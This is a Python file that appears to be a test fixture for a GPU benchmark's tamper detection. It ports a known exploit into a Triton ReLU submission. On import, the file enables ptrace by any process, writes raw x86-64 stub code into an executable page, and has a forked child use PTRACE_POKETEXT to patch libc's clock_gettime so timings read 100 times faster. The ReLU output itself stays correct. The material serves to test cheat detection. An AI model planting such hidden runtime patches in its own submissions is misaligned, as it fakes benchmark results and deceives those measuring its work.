# task: relu
# expect: pass|tampering
# device: both
# needs: timing
# speedup_at_most: 2
# why: turns PR_SET_DUMPABLE back on and allows any tracer, then a forked child PTRACE_ATTACHes the guest and POKETEXTs a jump to a 100x-slow clock stub over libc's clock_gettime; computes right (pygpubench submission_ptrace)
"""Port of gpu-mode/pygpubench exploits/submission_ptrace.py: a helper process patches the
guest's code with PTRACE_POKETEXT (which writes through page protections). The helper is a
forked child using ctypes, not a compiled program."""
import os
import ctypes
import struct
import time

import torch
import triton
import triton.language as tl

# A position-independent x86-64 stub standing in for clock_gettime(clk, ts): it reads the
# clock with the raw syscall and, for CLOCK_MONOTONIC, returns base + (now - base) / SCALE,
# so every interval the process measures from then on reads SCALE times shorter.
_STUB = bytes.fromhex(
    "534154415589fb4989f4b8e40000000f0583fb01754a4885c07545498b04244869c000ca9a3b4903442408"
    "48b988776655443322114829c87c2431d249c7c56400000049f7f54801c831d249c7c500ca9a3b49f7f549"
    "890424498954240831c0415d415c5bc3")
_SCALE = 100
_libc = ctypes.CDLL("libc.so.6", use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
_libc.prctl.argtypes = [ctypes.c_int, ctypes.c_ulong, ctypes.c_ulong, ctypes.c_ulong, ctypes.c_ulong]


def _stub_bytes() -> bytes:
    code = bytearray(_STUB)
    code[0x2D:0x35] = struct.pack("<Q", time.clock_gettime_ns(time.CLOCK_MONOTONIC))
    code[0x3F:0x43] = struct.pack("<I", _SCALE)
    return bytes(code)


def _stub_page() -> int:
    """The stub in an executable page that is never unmapped."""
    page = _libc.mmap(None, 4096, 7, 0x22, -1, 0)  # RWX, MAP_PRIVATE | MAP_ANONYMOUS
    if not page or page == ctypes.c_void_p(-1).value:
        raise OSError("mmap failed")
    code = _stub_bytes()
    ctypes.memmove(page, code, len(code))
    return page


def _jump_to(address: int) -> bytes:
    return b"\x48\xb8" + struct.pack("<Q", address) + b"\xff\xe0"  # movabs rax, address; jmp rax


def _clock_gettime_address() -> int:
    return ctypes.cast(_libc.clock_gettime, ctypes.c_void_p).value

_libc.ptrace.restype = ctypes.c_long
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
PTRACE_PEEKTEXT, PTRACE_POKETEXT, PTRACE_ATTACH, PTRACE_DETACH = 1, 4, 16, 17


def _poke_parent(target: int, code: bytes) -> int:
    """In the forked child: attach to the parent, write code at target word by word, detach."""
    parent = os.getppid()
    if _libc.ptrace(PTRACE_ATTACH, parent, None, None) != 0:
        return 1
    os.waitpid(parent, 0x40000000)  # __WALL
    padded = code + b"\0" * (-len(code) % 8)
    for at in range(0, len(padded), 8):
        word = padded[at: at + 8]
        if at + 8 > len(code):  # keep the original bytes after the code
            ctypes.set_errno(0)
            old = _libc.ptrace(PTRACE_PEEKTEXT, parent, ctypes.c_void_p(target + at), None)
            old_bytes = struct.pack("<q", old)
            keep = len(code) - at
            word = code[at:] + old_bytes[keep:]
        value = struct.unpack("<Q", word)[0]
        if _libc.ptrace(PTRACE_POKETEXT, parent, ctypes.c_void_p(target + at), ctypes.c_void_p(value)) != 0:
            _libc.ptrace(PTRACE_DETACH, parent, None, None)
            return 2
    _libc.ptrace(PTRACE_DETACH, parent, None, None)
    return 0


def _hook() -> bool:
    _libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE = 1
    _libc.prctl(0x59616D61, ctypes.c_ulong(-1).value, 0, 0, 0)  # PR_SET_PTRACER, any (Yama)
    target = _clock_gettime_address()
    jump = _jump_to(_stub_page())
    pid = os.fork()
    if pid == 0:
        code = 3
        try:
            code = _poke_parent(target, jump)
        finally:
            os._exit(code)
    _, status = os.waitpid(pid, 0)
    return os.WIFEXITED(status) and os.WEXITSTATUS(status) == 0


try:
    _HOOKED = _hook()
except Exception:
    _HOOKED = False


@triton.jit
def _relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr, MODE: tl.constexpr):
    # MODE 0: relu; 1: zeros; 2: NaN (what the cheating branches store)
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask).to(tl.float32)
    if MODE == 0:
        y = tl.maximum(x, 0.0)
    elif MODE == 1:
        y = x * 0.0
    else:
        y = x * 0.0 + float("nan")
    tl.store(out_ptr + offs, y.to(out_ptr.dtype.element_ty), mask=mask)


def _launch(x, out, mode=0, n=None):
    n = x.numel() if n is None else n
    _relu_kernel[(triton.cdiv(max(n, 1), 1024),)](x, out, n, BLOCK=1024, MODE=mode)
    return out


def _honest(x):
    x = x.contiguous()
    return _launch(x, torch.empty_like(x))


def relu(x):
    return _honest(x)
